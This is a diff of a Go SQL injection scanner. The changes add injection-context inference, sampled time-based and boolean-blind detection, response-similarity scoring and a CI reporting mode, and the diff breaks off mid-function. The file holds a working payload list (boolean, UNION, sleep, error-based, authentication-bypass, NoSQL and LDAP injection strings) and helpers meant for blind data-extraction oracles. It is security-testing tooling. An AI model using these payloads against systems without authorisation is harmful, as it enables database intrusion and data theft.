@@ -11,13 +11,12 @@ package main
 
 import (
 	"bufio"
+	"flag"
 	"fmt"
 	"io"
 	"net/http"
-	"net/url"
 	"os"
 	"regexp"
-	"strconv"
 	"strings"
 	"time"
 )
@@ -33,29 +32,73 @@ type SQLIPayload struct {
 
 // VulnerabilityResult represents the result of a SQL injection test
 type VulnerabilityResult struct {
-	URL         string
-	Parameter   string
-	Payload     SQLIPayload
-	Vulnerable  bool
-	Response    string
-	ErrorType   string
-	Confidence  string
-	Evidence    []string
+	URL        string
+	Parameter  string
+	Payload    SQLIPayload
+	Vulnerable bool
+	Response   string
+	ErrorType  string
+	Confidence string
+	Evidence   []string
+	// Context is the injection context inferred for Parameter by
+	// inferInjectionContext, nil if none was confirmed. Exploitation
+	// payloads for this parameter should reuse it instead of re-probing.
+	Context *injectionContext
+	// BaselineSimilarity, TrueSimilarity, and FalseSimilarity are the
+	// scores testBooleanBased computed: the measured noise floor (mean
+	// responseSimilarity of the noise probes to baseline), baseline vs.
+	// the always-true probe, and baseline vs. the always-false probe
+	// respectively. All three are zero if
+	// boolean differencing wasn't run. MedianDelay is the median trial
+	// duration testTimeBased measured at the confirmed sleep duration,
+	// zero if time-based confirmation wasn't reached.
+	BaselineSimilarity float64
+	TrueSimilarity     float64
+	FalseSimilarity    float64
+	MedianDelay        time.Duration
+}
+
+// injectionContext describes how a parameter's value needs to escape the
+// surrounding SQL syntax: the quote style that closes the original string
+// literal (if any), how many trailing parentheses close enclosing
+// function/subquery calls, and the comment style that silences the rest
+// of the original query.
+type injectionContext struct {
+	EscapeQuote  string // "", "'", or `"`
+	EscapeParen  int    // 0, 1, or 2 trailing ")" before the comment
+	CommentStyle string // e.g. "--" or "#"
+}
+
+// truePayload builds this context's always-true OR probe.
+func (ctx *injectionContext) truePayload() string {
+	return ctx.EscapeQuote + strings.Repeat(")", ctx.EscapeParen) + " OR 1=1" + ctx.CommentStyle + " "
+}
+
+// falsePayload builds this context's always-false AND probe.
+func (ctx *injectionContext) falsePayload() string {
+	return ctx.EscapeQuote + strings.Repeat(")", ctx.EscapeParen) + " AND 1=0" + ctx.CommentStyle + " "
+}
+
+// conditionPayload builds a payload that ANDs an arbitrary SQL expression
+// onto the original query, used by Extract's length/character oracles in
+// place of the fixed 1=1/1=0 probes.
+func (ctx *injectionContext) conditionPayload(condition string) string {
+	return ctx.EscapeQuote + strings.Repeat(")", ctx.EscapeParen) + " AND " + condition + ctx.CommentStyle + " "
 }
 
 // SQLITester provides SQL injection testing capabilities
 type SQLITester struct {
-	Payloads        []SQLIPayload
-	ErrorPatterns   map[string][]string
+	Payloads         []SQLIPayload
+	ErrorPatterns    map[string][]string
 	TimeoutThreshold time.Duration
-	Client          *http.Client
+	Client           *http.Client
 }
 
 // NewSQLITester creates a new SQL injection tester
 func NewSQLITester() *SQLITester {
 	return &SQLITester{
-		Payloads:        generatePayloads(),
-		ErrorPatterns:   getErrorPatterns(),
+		Payloads:         generatePayloads(),
+		ErrorPatterns:    getErrorPatterns(),
 		TimeoutThreshold: 5 * time.Second,
 		Client: &http.Client{
 			Timeout: 10 * time.Second,
@@ -74,43 +117,43 @@ func generatePayloads() []SQLIPayload {
 		{"' OR 1=1--", "BOOLEAN_BASED", "GENERIC", "Boolean injection with comment", "HIGH"},
 		{"' OR 1=1#", "BOOLEAN_BASED", "MYSQL", "MySQL boolean injection with comment", "HIGH"},
 		{"' OR 1=1/*", "BOOLEAN_BASED", "GENERIC", "Boolean injection with comment", "HIGH"},
-		
+
 		// Union-based payloads
 		{"' UNION SELECT NULL--", "UNION_BASED", "GENERIC", "Union select with null", "HIGH"},
 		{"' UNION SELECT 1,2,3--", "UNION_BASED", "GENERIC", "Union select with numbers", "HIGH"},
 		{"' UNION ALL SELECT NULL,NULL,NULL--", "UNION_BASED", "GENERIC", "Union all select", "HIGH"},
-		
+
 		// Time-based blind payloads
 		{"'; WAITFOR DELAY '00:00:05'--", "TIME_BASED", "MSSQL", "MSSQL time delay", "MEDIUM"},
 		{"'; SELECT SLEEP(5)--", "TIME_BASED", "MYSQL", "MySQL sleep function", "MEDIUM"},
 		{"'; SELECT pg_sleep(5)--", "TIME_BASED", "POSTGRESQL", "PostgreSQL sleep", "MEDIUM"},
 		{"' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--", "TIME_BASED", "MYSQL", "MySQL nested sleep", "MEDIUM"},
-		
+
 		// Error-based payloads
 		{"' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e))--", "ERROR_BASED", "MYSQL", "MySQL extractvalue error", "HIGH"},
 		{"' AND (SELECT * FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--", "ERROR_BASED", "MYSQL", "MySQL double query error", "HIGH"},
 		{"' AND CAST((SELECT version()) AS int)--", "ERROR_BASED", "MSSQL", "MSSQL cast error", "HIGH"},
-		
+
 		// Database fingerprinting
 		{"' AND @@version IS NOT NULL--", "FINGERPRINT", "MSSQL", "MSSQL version detection", "LOW"},
 		{"' AND version() IS NOT NULL--", "FINGERPRINT", "MYSQL", "MySQL version detection", "LOW"},
 		{"' AND user() IS NOT NULL--", "FINGERPRINT", "MYSQL", "MySQL user detection", "LOW"},
-		
+
 		// Advanced payloads
 		{"admin'--", "AUTHENTICATION_BYPASS", "GENERIC", "Authentication bypass", "HIGH"},
 		{"admin'/*", "AUTHENTICATION_BYPASS", "GENERIC", "Authentication bypass with comment", "HIGH"},
 		{"' OR SUBSTRING(@@version,1,1)='5'--", "BLIND_BOOLEAN", "MYSQL", "Blind boolean version check", "MEDIUM"},
-		
+
 		// NoSQL injection payloads
 		{"' || '1'=='1", "NOSQL", "MONGODB", "MongoDB boolean injection", "MEDIUM"},
 		{"{\"$gt\": \"\"}", "NOSQL", "MONGODB", "MongoDB greater than injection", "MEDIUM"},
-		
+
 		// XML injection
 		{"' OR xmlexists('/user[userid=1 and password=\"admin\"]' passing by ref xmldata)--", "XML", "ORACLE", "Oracle XML injection", "MEDIUM"},
-		
+
 		// LDAP injection
 		{"*)(&(objectClass=*)", "LDAP", "GENERIC", "LDAP injection payload", "MEDIUM"},
-		
+
 		// Encoded payloads
 		{"%27%20OR%20%271%27%3D%271", "ENCODED", "GENERIC", "URL encoded boolean injection", "HIGH"},
 		{"\\x27\\x20OR\\x20\\x271\\x27\\x3D\\x271", "ENCODED", "GENERIC", "Hex encoded injection", "HIGH"},
@@ -145,7 +188,7 @@ func getErrorPatterns() map[string][]string {
 		},
 		"ORACLE": {
 			"ORA-00933",
-			"ORA-00936", 
+			"ORA-00936",
 			"ORA-00942",
 			"Oracle ODBC",
 			"Oracle Driver",
@@ -166,101 +209,134 @@ func getErrorPatterns() map[string][]string {
 
 // TestURL tests a URL for SQL injection vulnerabilities
 func (sqli *SQLITester) TestURL(targetURL string, parameter string) []VulnerabilityResult {
-	var results []VulnerabilityResult
-	
-	// Get baseline response
-	baseline, err := sqli.makeRequest(targetURL, parameter, "")
-	if err != nil {
-		fmt.Printf("Error getting baseline response: %v\n", err)
-		return results
-	}
-	
-	fmt.Printf("Testing parameter '%s' with %d payloads...\n", parameter, len(sqli.Payloads))
-	
-	for i, payload := range sqli.Payloads {
-		fmt.Printf("Progress: %d/%d - Testing: %s\n", i+1, len(sqli.Payloads), payload.Type)
-		
-		result := sqli.testSinglePayload(targetURL, parameter, payload, baseline)
-		if result.Vulnerable {
-			results = append(results, result)
-		}
-	}
-	
-	return results
+	return sqli.TestRequest(queryTemplate(targetURL, parameter))
 }
 
 // testSinglePayload tests a single payload against the target
-func (sqli *SQLITester) testSinglePayload(targetURL, parameter string, payload SQLIPayload, baseline string) VulnerabilityResult {
+func (sqli *SQLITester) testSinglePayload(tmpl RequestTemplate, payload SQLIPayload, baseline string) VulnerabilityResult {
 	result := VulnerabilityResult{
-		URL:       targetURL,
-		Parameter: parameter,
-		Payload:   payload,
+		URL:        tmpl.URL,
+		Parameter:  tmpl.Parameter,
+		Payload:    payload,
 		Vulnerable: false,
 	}
-	
+
 	switch payload.Type {
 	case "TIME_BASED":
-		result = sqli.testTimeBased(targetURL, parameter, payload)
+		result = sqli.testTimeBased(tmpl, payload)
 	case "ERROR_BASED":
-		result = sqli.testErrorBased(targetURL, parameter, payload, baseline)
+		result = sqli.testErrorBased(tmpl, payload, baseline)
 	case "BOOLEAN_BASED", "BLIND_BOOLEAN":
-		result = sqli.testBooleanBased(targetURL, parameter, payload, baseline)
+		result = sqli.testBooleanBased(tmpl, payload, baseline)
 	default:
-		result = sqli.testGeneric(targetURL, parameter, payload, baseline)
+		result = sqli.testGeneric(tmpl, payload, baseline)
 	}
-	
+
 	return result
 }
 
-// testTimeBased tests for time-based SQL injection
-func (sqli *SQLITester) testTimeBased(targetURL, parameter string, payload SQLIPayload) VulnerabilityResult {
+// testTimeBased tests for time-based SQL injection using a sampling
+// protocol instead of one measurement against a fixed threshold, which
+// false-positives on flaky networks and false-negatives against a
+// naturally slow target. It first measures baseline timing (mean and
+// stddev) with unmodified requests, then sends the sleep payload at an
+// escalating duration until every trial at that duration exceeds both
+// mean+k*stddev and sleepDuration*timeSleepFraction, or the ladder is
+// exhausted.
+func (sqli *SQLITester) testTimeBased(tmpl RequestTemplate, payload SQLIPayload) VulnerabilityResult {
 	result := VulnerabilityResult{
-		URL:       targetURL,
-		Parameter: parameter,
-		Payload:   payload,
+		URL:        tmpl.URL,
+		Parameter:  tmpl.Parameter,
+		Payload:    payload,
 		Vulnerable: false,
 	}
-	
-	start := time.Now()
-	response, err := sqli.makeRequest(targetURL, parameter, payload.Payload)
-	duration := time.Since(start)
-	
+
+	mean, stddev, baselineRaw, err := sqli.sampleBaselineTiming(tmpl, timeBaselineSamples)
 	if err != nil {
 		result.Response = fmt.Sprintf("Error: %v", err)
 		return result
 	}
-	
-	// Check if response took significantly longer (indicating time-based injection)
-	if duration > sqli.TimeoutThreshold {
-		result.Vulnerable = true
-		result.Confidence = "HIGH"
-		result.Evidence = []string{
-			fmt.Sprintf("Response time: %v (expected: <%v)", duration, sqli.TimeoutThreshold),
+	result.Evidence = append(result.Evidence,
+		fmt.Sprintf("Baseline: mean=%v stddev=%v samples=%v", time.Duration(mean), time.Duration(stddev), baselineRaw))
+
+	threshold := mean + timeStddevMultiplier*stddev
+
+	for _, seconds := range timeBasedSleepLadder {
+		sleepPayload := withSleepSeconds(payload.Payload, seconds)
+		sleepDuration := time.Duration(seconds) * time.Second
+		minTrial := time.Duration(float64(sleepDuration) * timeSleepFraction)
+
+		trials := make([]time.Duration, 0, timeTrialSamples)
+		suspicious := true
+		for i := 0; i < timeTrialSamples && suspicious; i++ {
+			start := time.Now()
+			response, reqErr := sqli.makeRequest(tmpl, sleepPayload)
+			duration := time.Since(start)
+			if reqErr != nil {
+				suspicious = false
+				break
+			}
+			result.Response = response
+			trials = append(trials, duration)
+			suspicious = float64(duration) > threshold && duration >= minTrial
+		}
+
+		result.Evidence = append(result.Evidence,
+			fmt.Sprintf("Trials at %ds sleep: %v", seconds, trials))
+
+		if !suspicious || len(trials) < timeTrialSamples {
+			continue
+		}
+
+		// Requiring the median (not just that every individual trial
+		// crossed threshold) to beat the same bar guards against a
+		// single trial skewing the call on a flaky link - an ordinary
+		// latency spike might push one of three trials over threshold,
+		// but it won't usually push the middle one.
+		median := medianDuration(trials)
+		if float64(median) <= threshold || median < minTrial {
+			continue
+		}
+		result.MedianDelay = median
+
+		meanTrial := meanDuration(trials)
+		ratio := 0.0
+		if stddev > 0 {
+			ratio = (float64(meanTrial) - mean) / stddev
 		}
+
+		result.Vulnerable = true
 		result.ErrorType = "TIME_DELAY"
+		if stddev == 0 || ratio >= 2*timeStddevMultiplier {
+			result.Confidence = "HIGH"
+		} else {
+			result.Confidence = "MEDIUM"
+		}
+		result.Evidence = append(result.Evidence,
+			fmt.Sprintf("Confirmed at %ds sleep: mean trial time %v, median trial time %v, (mean_payload-mean_baseline)/stddev=%.2f", seconds, meanTrial, median, ratio))
+		return result
 	}
-	
-	result.Response = response
+
 	return result
 }
 
 // testErrorBased tests for error-based SQL injection
-func (sqli *SQLITester) testErrorBased(targetURL, parameter string, payload SQLIPayload, baseline string) VulnerabilityResult {
+func (sqli *SQLITester) testErrorBased(tmpl RequestTemplate, payload SQLIPayload, baseline string) VulnerabilityResult {
 	result := VulnerabilityResult{
-		URL:       targetURL,
-		Parameter: parameter,
-		Payload:   payload,
+		URL:        tmpl.URL,
+		Parameter:  tmpl.Parameter,
+		Payload:    payload,
 		Vulnerable: false,
 	}
-	
-	response, err := sqli.makeRequest(targetURL, parameter, payload.Payload)
+
+	response, err := sqli.makeRequest(tmpl, payload.Payload)
 	if err != nil {
 		result.Response = fmt.Sprintf("Error: %v", err)
 		return result
 	}
-	
+
 	result.Response = response
-	
+
 	// Check for database error patterns
 	for dbType, patterns := range sqli.ErrorPatterns {
 		for _, pattern := range patterns {
@@ -272,7 +348,7 @@ func (sqli *SQLITester) testErrorBased(targetURL, parameter string, payload SQLI
 			}
 		}
 	}
-	
+
 	// Check for significant response differences
 	if len(response) != len(baseline) && !strings.Contains(baseline, response[:min(len(response), 100)]) {
 		result.Evidence = append(result.Evidence, "Significant response difference detected")
@@ -282,66 +358,223 @@ func (sqli *SQLITester) testErrorBased(targetURL, parameter string, payload SQLI
 			result.ErrorType = "RESPONSE_DIFFERENCE"
 		}
 	}
-	
+
 	return result
 }
 
-// testBooleanBased tests for boolean-based SQL injection
-func (sqli *SQLITester) testBooleanBased(targetURL, parameter string, payload SQLIPayload, baseline string) VulnerabilityResult {
+// quoteEscapes and parenEscapes are the dimensions inferInjectionContext
+// searches over to find how a parameter's value needs to escape the
+// surrounding SQL syntax.
+var quoteEscapes = []string{"", "'", "\""}
+var parenEscapes = []int{0, 1, 2}
+
+const (
+	// similarBaselineThreshold is the minimum responseSimilarity an
+	// always-true probe's response must have to the baseline to count as
+	// "the query still ran as before".
+	similarBaselineThreshold = 0.92
+	// differentFalseThreshold is the responseSimilarity an always-false
+	// probe's response must fall below the true-condition response to
+	// count as "the query result actually changed".
+	differentFalseThreshold = 0.85
+)
+
+// noiseProbePayloads are two garbage values, unrelated to any inferred
+// injection context, sent unmodified in place of the parameter to measure
+// how similar to baseline an ordinary non-matching request already is.
+// A page with incidental per-request variance (rotating ads, a visit
+// counter) has a lower natural noise floor than a perfectly static one,
+// and that floor - not a fixed constant - is what a false-condition
+// response needs to fall below to count as a genuine behavioral change.
+var noiseProbePayloads = []string{"zzz_nonexistent_probe_9f3a", "qqq_nonexistent_probe_7c21"}
+
+// measureBaselineNoise sends noiseProbePayloads against tmpl and returns
+// the mean responseSimilarity of their responses to baseline.
+func (sqli *SQLITester) measureBaselineNoise(tmpl RequestTemplate, baseline string) (float64, error) {
+	var sum float64
+	for _, probe := range noiseProbePayloads {
+		response, err := sqli.makeRequest(tmpl, probe)
+		if err != nil {
+			return 0, err
+		}
+		sum += responseSimilarity(baseline, response)
+	}
+	return sum / float64(len(noiseProbePayloads)), nil
+}
+
+// inferInjectionContext searches escape_quote x escape_parenthesis
+// combinations (modeled on the ronin-vulns SQLI approach) for one where an
+// always-true OR probe reproduces the baseline page and an always-false
+// AND probe does not, establishing the surrounding SQL syntax before any
+// exploitation payload is sent. The comment style is fixed to "--", which
+// every mainstream SQL dialect accepts.
+func (sqli *SQLITester) inferInjectionContext(tmpl RequestTemplate, baseline string) (*injectionContext, bool) {
+	for _, quote := range quoteEscapes {
+		for _, parens := range parenEscapes {
+			ctx := &injectionContext{EscapeQuote: quote, EscapeParen: parens, CommentStyle: "--"}
+
+			trueResponse, err := sqli.makeRequest(tmpl, ctx.truePayload())
+			if err != nil {
+				continue
+			}
+			falseResponse, err := sqli.makeRequest(tmpl, ctx.falsePayload())
+			if err != nil {
+				continue
+			}
+
+			if responseSimilarity(baseline, trueResponse) >= similarBaselineThreshold &&
+				responseSimilarity(trueResponse, falseResponse) < differentFalseThreshold {
+				return ctx, true
+			}
+		}
+	}
+	return nil, false
+}
+
+// testBooleanBased confirms boolean-blind SQL injection with a differential
+// OR/AND probe pair instead of the payload's own literal "1=1"/"1=2" text:
+// it first infers the injection context for parameter, measures how
+// similar an ordinary non-matching request already is to baseline (the
+// noise floor), then asserts vulnerability only when the always-true
+// probe's response is similar to baseline, dissimilar from the
+// always-false probe's response, AND the always-false probe's response
+// has dropped below that noise floor. Exact string (in)equality
+// false-positives on pages with dynamic content (ads, timestamps, CSRF
+// tokens) and false-negatives on pages that vary slightly between any two
+// identical requests; comparing against the measured noise floor instead
+// of a single fixed threshold keeps that false-positive rate stable
+// across targets with different amounts of incidental per-request
+// variance.
+func (sqli *SQLITester) testBooleanBased(tmpl RequestTemplate, payload SQLIPayload, baseline string) VulnerabilityResult {
 	result := VulnerabilityResult{
-		URL:       targetURL,
-		Parameter: parameter,
+		URL:       tmpl.URL,
+		Parameter: tmpl.Parameter,
 		Payload:   payload,
-		Vulnerable: false,
 	}
-	
-	// Test the payload
-	response, err := sqli.makeRequest(targetURL, parameter, payload.Payload)
+
+	response, err := sqli.makeRequest(tmpl, payload.Payload)
 	if err != nil {
 		result.Response = fmt.Sprintf("Error: %v", err)
 		return result
 	}
-	
 	result.Response = response
-	
-	// Test a false condition for comparison
-	falsePayload := strings.Replace(payload.Payload, "1=1", "1=2", -1)
-	falseResponse, err := sqli.makeRequest(targetURL, parameter, falsePayload)
+
+	ctx, ok := sqli.inferInjectionContext(tmpl, baseline)
+	if !ok {
+		return result
+	}
+	result.Context = ctx
+
+	noiseFloor, err := sqli.measureBaselineNoise(tmpl, baseline)
+	if err != nil {
+		// Noise probes failed (timeout, WAF block); fall back to the
+		// fixed threshold rather than abandoning the test entirely.
+		noiseFloor = similarBaselineThreshold
+	}
+	result.BaselineSimilarity = noiseFloor
+
+	trueResponse, err := sqli.makeRequest(tmpl, ctx.truePayload())
+	if err != nil {
+		return result
+	}
+	falseResponse, err := sqli.makeRequest(tmpl, ctx.falsePayload())
 	if err != nil {
 		return result
 	}
-	
-	// Compare responses
-	if response != baseline && response != falseResponse {
+
+	result.TrueSimilarity = responseSimilarity(baseline, trueResponse)
+	result.FalseSimilarity = responseSimilarity(baseline, falseResponse)
+	differential := responseSimilarity(trueResponse, falseResponse)
+
+	if result.TrueSimilarity >= similarBaselineThreshold &&
+		differential < differentFalseThreshold &&
+		result.FalseSimilarity < noiseFloor {
 		result.Vulnerable = true
 		result.Confidence = "HIGH"
 		result.ErrorType = "BOOLEAN_DIFFERENCE"
 		result.Evidence = []string{
-			"True condition response differs from baseline",
-			"False condition response differs from true condition",
+			fmt.Sprintf("Inferred context: quote=%q parens=%d comment=%q", ctx.EscapeQuote, ctx.EscapeParen, ctx.CommentStyle),
+			fmt.Sprintf("Baseline noise floor (two non-matching probes vs. baseline): %.0f%% similar", noiseFloor*100),
+			fmt.Sprintf("True-condition response %.0f%% similar to baseline", result.TrueSimilarity*100),
+			fmt.Sprintf("False-condition response only %.0f%% similar to baseline (below noise floor)", result.FalseSimilarity*100),
+			fmt.Sprintf("False-condition response only %.0f%% similar to true-condition response", differential*100),
 		}
 	}
-	
+
 	return result
 }
 
+// responseSimilarity scores two response bodies on a 0..1 scale,
+// combining a normalized-length ratio, a token-overlap ratio, and a DOM
+// structure comparison so that incidental whitespace or small dynamic
+// fragments (timestamps, nonces) don't read as a totally different page
+// the way exact equality would, while a boolean payload that actually
+// changes the rendered row count still shows up in the DOM signal even
+// when the surrounding markup's text overlap stays high.
+func responseSimilarity(a, b string) float64 {
+	normA, normB := normalizeResponse(a), normalizeResponse(b)
+	if normA == normB {
+		return 1.0
+	}
+	return (lengthSimilarity(len(normA), len(normB)) + tokenOverlapRatio(normA, normB) + domStructureSimilarity(a, b)) / 3
+}
+
+func normalizeResponse(body string) string {
+	return strings.Join(strings.Fields(body), " ")
+}
+
+func lengthSimilarity(a, b int) float64 {
+	if a == 0 && b == 0 {
+		return 1.0
+	}
+	longer, shorter := float64(a), float64(b)
+	if shorter > longer {
+		longer, shorter = shorter, longer
+	}
+	return shorter / longer
+}
+
+// tokenOverlapRatio returns the Dice coefficient of a's and b's whitespace
+// tokens: twice the number of matched tokens over the total token count.
+func tokenOverlapRatio(a, b string) float64 {
+	tokensA := strings.Fields(a)
+	tokensB := strings.Fields(b)
+	if len(tokensA) == 0 && len(tokensB) == 0 {
+		return 1.0
+	}
+
+	remaining := make(map[string]int, len(tokensA))
+	for _, t := range tokensA {
+		remaining[t]++
+	}
+	shared := 0
+	for _, t := range tokensB {
+		if remaining[t] > 0 {
+			remaining[t]--
+			shared++
+		}
+	}
+
+	return float64(2*shared) / float64(len(tokensA)+len(tokensB))
+}
+
 // testGeneric tests for generic SQL injection indicators
-func (sqli *SQLITester) testGeneric(targetURL, parameter string, payload SQLIPayload, baseline string) VulnerabilityResult {
+func (sqli *SQLITester) testGeneric(tmpl RequestTemplate, payload SQLIPayload, baseline string) VulnerabilityResult {
 	result := VulnerabilityResult{
-		URL:       targetURL,
-		Parameter: parameter,
-		Payload:   payload,
+		URL:        tmpl.URL,
+		Parameter:  tmpl.Parameter,
+		Payload:    payload,
 		Vulnerable: false,
 	}
-	
-	response, err := sqli.makeRequest(targetURL, parameter, payload.Payload)
+
+	response, err := sqli.makeRequest(tmpl, payload.Payload)
 	if err != nil {
 		result.Response = fmt.Sprintf("Error: %v", err)
 		return result
 	}
-	
+
 	result.Response = response
-	
+
 	// Check for SQL error patterns
 	for dbType, patterns := range sqli.ErrorPatterns {
 		for _, pattern := range patterns {
@@ -353,80 +586,8 @@ func (sqli *SQLITester) testGeneric(targetURL, parameter string, payload SQLIPay
 			}
 		}
 	}
-	
-	return result
-}
-
-// makeRequest makes an HTTP request with the given payload
-func (sqli *SQLITester) makeRequest(targetURL, parameter, payload string) (string, error) {
-	// Parse the URL
-	u, err := url.Parse(targetURL)
-	if err != nil {
-		return "", err
-	}
-	
-	// Add or modify the parameter
-	values := u.Query()
-	values.Set(parameter, payload)
-	u.RawQuery = values.Encode()
-	
-	// Make the request
-	resp, err := sqli.Client.Get(u.String())
-	if err != nil {
-		return "", err
-	}
-	defer resp.Body.Close()
-	
-	// Read the response
-	body, err := io.ReadAll(resp.Body)
-	if err != nil {
-		return "", err
-	}
-	
-	return string(body), nil
-}
 
-// PrintResults prints the vulnerability test results
-func (sqli *SQLITester) PrintResults(results []VulnerabilityResult) {
-	if len(results) == 0 {
-		fmt.Println("‚úì No SQL injection vulnerabilities detected")
-		return
-	}
-	
-	fmt.Printf("\nüö® FOUND %d POTENTIAL SQL INJECTION VULNERABILITIES:\n", len(results))
-	fmt.Println(strings.Repeat("=", 60))
-	
-	for i, result := range results {
-		fmt.Printf("\n[%d] VULNERABILITY DETECTED\n", i+1)
-		fmt.Printf("URL: %s\n", result.URL)
-		fmt.Printf("Parameter: %s\n", result.Parameter)
-		fmt.Printf("Payload: %s\n", result.Payload.Payload)
-		fmt.Printf("Type: %s\n", result.Payload.Type)
-		fmt.Printf("Database: %s\n", result.Payload.Database)
-		fmt.Printf("Risk Level: %s\n", result.Payload.Risk)
-		fmt.Printf("Confidence: %s\n", result.Confidence)
-		fmt.Printf("Error Type: %s\n", result.ErrorType)
-		
-		if len(result.Evidence) > 0 {
-			fmt.Println("Evidence:")
-			for _, evidence := range result.Evidence {
-				fmt.Printf("  - %s\n", evidence)
-			}
-		}
-		
-		fmt.Printf("Description: %s\n", result.Payload.Description)
-		fmt.Println(strings.Repeat("-", 40))
-	}
-	
-	// Security recommendations
-	fmt.Println("\nüõ°Ô∏è  SECURITY RECOMMENDATIONS:")
-	fmt.Println("1. Use parameterized queries/prepared statements")
-	fmt.Println("2. Implement proper input validation and sanitization")
-	fmt.Println("3. Use stored procedures where appropriate")
-	fmt.Println("4. Apply principle of least privilege to database accounts")
-	fmt.Println("5. Enable database error logging and monitoring")
-	fmt.Println("6. Use web application firewalls (WAF)")
-	fmt.Println("7. Regular security testing and code reviews")
+	return result
 }
 
 // min returns the minimum of two integers
@@ -449,21 +610,43 @@ func showMenu() {
 }
 
 func main() {
+	targetURL := flag.String("url", "", "target URL to scan; enables non-interactive CI mode")
+	paramsFlag := flag.String("params", "", "comma-separated parameter names to test (CI mode)")
+	format := flag.String("format", "text", "report format: text|json|sarif (CI mode)")
+	failOn := flag.String("fail-on", "", "exit 1 if a finding at or above this risk level is found: low|medium|high (CI mode)")
+	rate := flag.Float64("rate", 0, "max requests/sec against the target (0 = unlimited)")
+	outFile := flag.String("oFile", "", "path to save the report to, instead of printing it to stdout")
+	flag.Parse()
+
 	tester := NewSQLITester()
+
+	if *targetURL != "" {
+		runCI(tester, *targetURL, *paramsFlag, *format, *failOn, *outFile, *rate)
+		return
+	}
+
+	reportWriter, closeReportWriter, err := reportDestination(*outFile)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(2)
+	}
+	defer closeReportWriter()
+
 	scanner := bufio.NewScanner(os.Stdin)
-	
+	reporter := &TextReporter{Writer: reportWriter}
+
 	fmt.Println("SQL Injection Vulnerability Testing Tool v1.0")
 	fmt.Println("Educational tool for web application security testing")
 	fmt.Println("‚ö†Ô∏è  Use responsibly and only on applications you own or have permission to test")
-	
+
 	for {
 		showMenu()
-		
+
 		if !scanner.Scan() {
 			break
 		}
 		choice := strings.TrimSpace(scanner.Text())
-		
+
 		switch choice {
 		case "1":
 			fmt.Print("Enter target URL: ")
@@ -471,31 +654,31 @@ func main() {
 				continue
 			}
 			targetURL := strings.TrimSpace(scanner.Text())
-			
+
 			fmt.Print("Enter parameter name to test: ")
 			if !scanner.Scan() {
 				continue
 			}
 			parameter := strings.TrimSpace(scanner.Text())
-			
+
 			fmt.Printf("Starting SQL injection test on %s (parameter: %s)\n", targetURL, parameter)
 			results := tester.TestURL(targetURL, parameter)
-			tester.PrintResults(results)
-			
+			reporter.Report(results)
+
 		case "2":
 			fmt.Print("Enter target URL: ")
 			if !scanner.Scan() {
 				continue
 			}
 			targetURL := strings.TrimSpace(scanner.Text())
-			
+
 			fmt.Print("Enter parameter names (comma-separated): ")
 			if !scanner.Scan() {
 				continue
 			}
 			parametersStr := strings.TrimSpace(scanner.Text())
 			parameters := strings.Split(parametersStr, ",")
-			
+
 			var allResults []VulnerabilityResult
 			for _, param := range parameters {
 				param = strings.TrimSpace(param)
@@ -503,23 +686,23 @@ func main() {
 				results := tester.TestURL(targetURL, param)
 				allResults = append(allResults, results...)
 			}
-			
-			tester.PrintResults(allResults)
-			
+
+			reporter.Report(allResults)
+
 		case "3":
 			fmt.Printf("\n=== SQL Injection Payload Database ===\n")
 			fmt.Printf("Total payloads: %d\n\n", len(tester.Payloads))
-			
+
 			typeCount := make(map[string]int)
 			dbCount := make(map[string]int)
-			
+
 			for _, payload := range tester.Payloads {
 				typeCount[payload.Type]++
 				dbCount[payload.Database]++
 				fmt.Printf("Type: %-15s | DB: %-10s | Risk: %-6s | %s\n",
 					payload.Type, payload.Database, payload.Risk, payload.Payload)
 			}
-			
+
 			fmt.Println("\n--- Statistics ---")
 			fmt.Println("By Type:")
 			for pType, count := range typeCount {
@@ -529,26 +712,26 @@ func main() {
 			for db, count := range dbCount {
 				fmt.Printf("  %s: %d\n", db, count)
 			}
-			
+
 		case "4":
 			fmt.Print("Enter target URL: ")
 			if !scanner.Scan() {
 				continue
 			}
 			targetURL := strings.TrimSpace(scanner.Text())
-			
+
 			fmt.Print("Enter parameter name: ")
 			if !scanner.Scan() {
 				continue
 			}
 			parameter := strings.TrimSpace(scanner.Text())
-			
+
 			fmt.Print("Enter custom payload: ")
 			if !scanner.Scan() {
 				continue
 			}
 			payloadStr := strings.TrimSpace(scanner.Text())
-			
+
 			customPayload := SQLIPayload{
 				Payload:     payloadStr,
 				Type:        "CUSTOM",
@@ -556,23 +739,90 @@ func main() {
 				Description: "Custom user payload",
 				Risk:        "UNKNOWN",
 			}
-			
-			baseline, _ := tester.makeRequest(targetURL, parameter, "")
-			result := tester.testSinglePayload(targetURL, parameter, customPayload, baseline)
-			
+
+			tmpl := queryTemplate(targetURL, parameter)
+			baseline, _ := tester.makeRequest(tmpl, "")
+			result := tester.testSinglePayload(tmpl, customPayload, baseline)
+
 			if result.Vulnerable {
 				fmt.Println("üö® VULNERABILITY DETECTED with custom payload!")
-				tester.PrintResults([]VulnerabilityResult{result})
+				reporter.Report([]VulnerabilityResult{result})
 			} else {
 				fmt.Println("‚úì No vulnerability detected with custom payload")
 			}
-			
+
 		case "5":
 			fmt.Println("Exiting...")
 			return
-			
+
 		default:
 			fmt.Println("Invalid option. Please try again.")
 		}
 	}
 }
+
+// reportDestination opens path for the report to be written to, or
+// returns os.Stdout and a no-op closer if path is empty, so callers can
+// always defer the returned closer without checking whether -oFile was set.
+func reportDestination(path string) (io.Writer, func(), error) {
+	if path == "" {
+		return os.Stdout, func() {}, nil
+	}
+	f, err := os.Create(path)
+	if err != nil {
+		return nil, nil, fmt.Errorf("opening report file: %w", err)
+	}
+	return f, func() { f.Close() }, nil
+}
+
+// runCI drives a non-interactive scan suitable for a CI pipeline: it wraps
+// tester in a Session (SIGINT-cancelable, optionally rate-limited), tests
+// targetURL against every parameter in paramsCSV, writes the results through
+// the Reporter named by format to outFile (or stdout if outFile is empty),
+// and exits with the code s.FailOn implies.
+func runCI(tester *SQLITester, targetURL, paramsCSV, format, failOn, outFile string, requestsPerSecond float64) {
+	reportWriter, closeReportWriter, err := reportDestination(outFile)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(2)
+	}
+	defer closeReportWriter()
+
+	reporter, err := newReporter(format, reportWriter)
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(2)
+	}
+
